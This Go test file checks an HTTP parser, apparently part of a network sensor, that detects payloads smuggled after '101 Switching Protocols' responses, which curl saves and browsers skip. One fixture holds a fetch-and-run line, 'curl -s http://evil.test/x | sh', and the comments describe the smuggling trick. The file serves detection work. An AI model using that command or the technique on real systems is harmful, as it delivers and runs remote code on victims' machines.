package httpx

import (
	"strings"
	"testing"

	"github.com/edgesensor/edgesensor/userspace/files/transfer"
)

func TestSneaky101Body(t *testing.T) {
	pe := peBody(30000)
	heads := []string{
		"HTTP/1.1 101 Switching Protocols\r\n\r\n",
		"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n",
		// curl reads no Content-Length or Transfer-Encoding of a 1xx:
		// the body runs to the close whatever they say.
		"HTTP/1.1 101 Switching Protocols\r\nContent-Length: 0\r\n\r\n",
		"HTTP/1.1 101 X\r\nTransfer-Encoding: chunked\r\nContent-Encoding: gzip\r\n\r\n",
	}
	for i, head := range heads {
		for _, n := range []int{0, 1, 13, 4096} {
			p, s := exchange(t, n, cs(get("/payload.exe")), ss(head+pe))
			f := wholeSum(t, s, "payload.exe", pe)
			if f.meta.Status != 101 || f.meta.Transfer != "close" || f.meta.URL != "http://h.test/payload.exe" || f.meta.ContentEncoding != "" {
				t.Errorf("%d n=%d: meta %+v", i, n, f.meta)
			}
			if p.stats.Body101 != 1 || p.stats.Upgrades != 0 || p.stats.Interim101 != 0 {
				t.Errorf("%d n=%d: stats %+v", i, n, *p.stats)
			}
		}
	}
	// Short bodies, decided only by the end: the bytes are the body.
	for _, body := range []string{"HTTP/1.1 2", "\r\n", "H", "MZ"} {
		_, s := exchange(t, 0, cs(get("/short")), ss(heads[0]+body))
		whole(t, s, "short", body)
	}
	// Cut by expiry (Close without FIN): reported cut.
	s := &recSink{keep: 64}
	p := New(s, Options{}, nil)
	p.Data(true, []byte(get("/cut.exe")))
	p.Data(false, []byte(heads[0]+"MZ\x90"))
	p.Close()
	if f := file(t, s, "cut.exe"); f.cut != transfer.CutEnded || string(f.data) != "MZ\x90" {
		t.Errorf("cut %q data %q", f.cut, f.data)
	}
	// A gap right after the head: the body is cut, never whole.
	s = &recSink{keep: 64}
	p = New(s, Options{}, nil)
	p.Data(true, []byte(get("/gap.exe")))
	p.Data(false, []byte(heads[0]))
	p.Gap(false, 100)
	p.Data(false, []byte(pe))
	p.End(false)
	p.Close()
	if f := file(t, s, "gap.exe"); f.cut != transfer.CutGap || len(f.gaps) != 1 {
		t.Errorf("gap: cut %q gaps %v", f.cut, f.gaps)
	}
}

func TestSneaky101Interim(t *testing.T) {
	pe := peBody(10000)
	for _, lead := range []string{"", "\r\n", "\n\n\n\n"} {
		for _, n := range []int{0, 1, 5} {
			after := lead + ok200(pe) + "HTTP/1.1 101 Again\r\n\r\n" + ok200("bee")
			p, s := exchange(t, n, cs(get("/a.exe")+get("/b.txt")), ss("HTTP/1.1 101 Switching Protocols\r\n\r\n"+after))
			var tee *recFile
			for _, f := range s.files {
				switch {
				case f.meta.Status == 101:
					tee = f
				case f.meta.Name == "a.exe":
					if f.cut != transfer.Whole || f.sum() != sha(pe) || f.meta.Status != 200 || f.meta.URL != "http://h.test/a.exe" {
						t.Errorf("lead %q n=%d: a.exe cut %q %d bytes meta %+v", lead, n, f.cut, len(f.data), f.meta)
					}
				}
			}
			whole(t, s, "b.txt", "bee")
			// curl's reading: everything after the first 101, raw.
			if tee == nil || tee.cut != transfer.Whole || tee.sum() != sha(after) || tee.meta.Name != "a.exe" || tee.meta.Transfer != "close" {
				t.Fatalf("lead %q n=%d: tee %+v", lead, n, tee)
			}
			if p.stats.Interim101 != 2 || p.stats.Tee101 != 1 || p.stats.Body101 != 0 || p.stats.Unpaired != 0 || p.Done() || len(s.files) != 3 {
				t.Errorf("lead %q n=%d: %d files, stats %+v", lead, n, len(s.files), *p.stats)
			}
		}
	}
	// Too many line ends before it: the 101's body, as curl has it.
	_, s := exchange(t, 0, cs(get("/c.exe")), ss("HTTP/1.1 101 S\r\n\r\n\r\n\r\n\r\n"+ok200(pe)))
	if f := file(t, s, "c.exe"); f.meta.Status != 101 {
		t.Errorf("meta %+v", f.meta)
	}
}

func TestUpgradeAsked(t *testing.T) {
	cases := []struct{ name, req string }{
		{"websocket", get("/ws", "Upgrade: websocket", "Connection: Upgrade")},
		{"h2c", get("/", "Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA")},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			p, s := exchange(t, 0, cs(c.req), ss("HTTP/1.1 101 Switching Protocols\r\nUpgrade: x\r\n\r\n"+ok200(peBody(100))))
			if !p.Done() || p.stats.Upgrades != 1 || p.stats.Body101+p.stats.Interim101 != 0 || len(s.files) != 0 {
				t.Errorf("done %v stats %+v files %d", p.Done(), *p.stats, len(s.files))
			}
		})
	}
}

// A payload hidden from the interim reading of a 101: after it a final
// response with no body (a 204; a Content-Length: 0), then the payload,
// which curl saves after those lines ("curl | sh" runs past them) and
// Chromium never reads. The tee reports it; nothing is skipped meanwhile.
func TestSneaky101Hidden(t *testing.T) {
	script := "#!/bin/sh\ncurl -s http://evil.test/x | sh\n" + testBody(20000, 3)
	for _, final := range []string{"HTTP/1.1 204 No Content\r\n\r\n", "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n",
		"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello"} {
		for _, n := range []int{0, 1, 7, 1000} {
			after := final + script
			p, s := exchange(t, n, cs(get("/install")), ss("HTTP/1.1 101 Switching Protocols\r\n\r\n"+after))
			var tee *recFile
			for _, f := range s.files {
				if f.meta.Status == 101 {
					tee = f
				}
			}
			if tee == nil || tee.cut != transfer.Whole || tee.sum() != sha(after) || tee.meta.URL != "http://h.test/install" {
				t.Fatalf("%q n=%d: tee %+v", final, n, tee)
			}
			if p.stats.Tee101 != 1 || p.stats.SkippedBytes != 0 {
				t.Errorf("%q n=%d: stats %+v", final, n, *p.stats)
			}
		}
	}
	// A gap after the 101: the tee is cut, never whole.
	s := &recSink{keep: 1 << 16}
	p := New(s, Options{}, nil)
	p.Data(true, []byte(get("/g")))
	p.Data(false, []byte("HTTP/1.1 101 S\r\n\r\nHTTP/1.1 204 No Content\r\n\r\n"))
	p.Gap(false, 10)
	p.Data(false, []byte(script))
	p.End(false)
	p.Close()
	for _, f := range s.files {
		if f.meta.Status == 101 && f.cut == transfer.Whole {
			t.Errorf("tee whole over a gap")
		}
	}
	if p.stats.Tee101 != 1 {
		t.Errorf("stats %+v", *p.stats)
	}
}

// curl --http2 on an http:// URL asks for h2c (Upgrade: h2c); a server
// that agrees sends the file in HTTP/2 DATA frames after the 101, which
// curl saves. The parser stops at the 101 (Stats.Upgrades): no h2c
// reader yet, so such a file goes unreported.
func TestH2cUpgradeFile(t *testing.T) {
	t.Skip("known: h2c after an asked-for 101 is not parsed (needs an HTTP/2 frame reader); the file is not reported")
	pe := peBody(1000)
	frame := func(typ, flags byte, stream uint32, payload string) string {
		n := len(payload)
		return string([]byte{byte(n >> 16), byte(n >> 8), byte(n), typ, flags, byte(stream >> 24), byte(stream >> 16), byte(stream >> 8), byte(stream)}) + payload
	}
	req := get("/f.exe", "Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA")
	resp := "HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n" +
		frame(4, 0, 0, "") + frame(1, 4, 1, "\x88") + frame(0, 1, 1, pe)
	_, s := exchange(t, 0, cs(req), ss(resp))
	wholeSum(t, s, "f.exe", pe)
}

// teeOf is the file of the 101's tee among s's files.
func teeOf(t *testing.T, s *recSink) *recFile {
	t.Helper()
	for _, f := range s.files {
		if f.meta.Status == 101 {
			return f
		}
	}
	t.Fatal("no tee")
	return nil
}

// A 101 in a tunnel's held server bytes starts its tee when they are let
// go: the bytes that overflowed the hold (and released it) are the tee's
// too, or it closed Whole with a hash of a part.
func TestSneaky101TeeFromHeldBytes(t *testing.T) {
	s := &recSink{keep: 1 << 20}
	p := New(s, Options{}, nil)
	p.Data(true, []byte(connect))
	p.Data(false, []byte(established))
	first := "HTTP/1.1 101 S\r\n\r\nHTTP/1.1 204 No Content\r\n\r\n"
	rest := strings.Repeat("x", maxTunnelHold)
	p.Data(false, []byte(first))
	p.Data(false, []byte(rest))
	p.End(false)
	p.End(true)
	p.Close()
	want := "HTTP/1.1 204 No Content\r\n\r\n" + rest
	if f := teeOf(t, s); f.cut != transfer.Whole || f.n != int64(len(want)) || f.sum() != sha(want) {
		t.Errorf("tee: cut %q, %d bytes of %d, whole %v", f.cut, f.n, len(want), f.sum() == sha(want))
	}
	if p.stats.TunnelHoldOver != 1 {
		t.Errorf("hold overflows %d, want 1", p.stats.TunnelHoldOver)
	}
}

// A gap right after held bytes that start a tee is the tee's gap.
func TestSneaky101TeeGapAfterHeldBytes(t *testing.T) {
	s := &recSink{keep: 1 << 20}
	p := New(s, Options{}, nil)
	p.Data(true, []byte(connect))
	p.Data(false, []byte(established))
	p.Data(false, []byte("HTTP/1.1 101 S\r\n\r\nHTTP/1.1 204 No Content\r\n\r\n"))
	p.Gap(false, 100)
	p.Data(false, []byte("payload"))
	p.End(false)
	p.End(true)
	p.Close()
	if f := teeOf(t, s); f.cut == transfer.Whole || len(f.gaps) != 1 || f.gaps[0] != 100 {
		t.Errorf("tee: cut %q, gaps %v", f.cut, f.gaps)
	}
}

// A tee the sink declined takes nothing: the bodies after it are skipped
// as on any connection.
func TestSneaky101DeclinedTeeSkips(t *testing.T) {
	s := &recSink{keep: 64, declineOn: func(m *transfer.Meta) int {
		if m.Status == 101 {
			return 1
		}
		return 0
	}}
	p := New(s, Options{}, nil)
	p.Data(true, []byte(get("/a")+get("/b")))
	p.Data(false, []byte("HTTP/1.1 101 S\r\n\r\nHTTP/1.1 204 No Content\r\n\r\n"))
	s.declineOn = func(*transfer.Meta) int { return 1 }
	skip := p.Data(false, []byte("HTTP/1.1 200 OK\r\nContent-Length: 100000\r\n\r\nabc"))
	if _, want, _ := p.Pending(false); skip != 100000-3 || want {
		t.Errorf("after a declined tee: skip %d, want %v", skip, want)
	}
	p.Close()
}
